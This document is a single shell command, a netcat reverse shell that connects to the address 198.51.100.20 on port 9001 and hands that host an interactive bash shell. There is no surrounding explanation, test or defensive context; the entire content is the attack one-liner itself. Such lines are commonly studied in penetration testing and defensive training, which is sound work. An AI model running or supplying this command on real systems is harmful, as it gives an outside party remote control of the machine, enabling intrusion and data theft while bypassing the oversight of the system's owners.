nc -e /bin/bash 198.51.100.20 9001
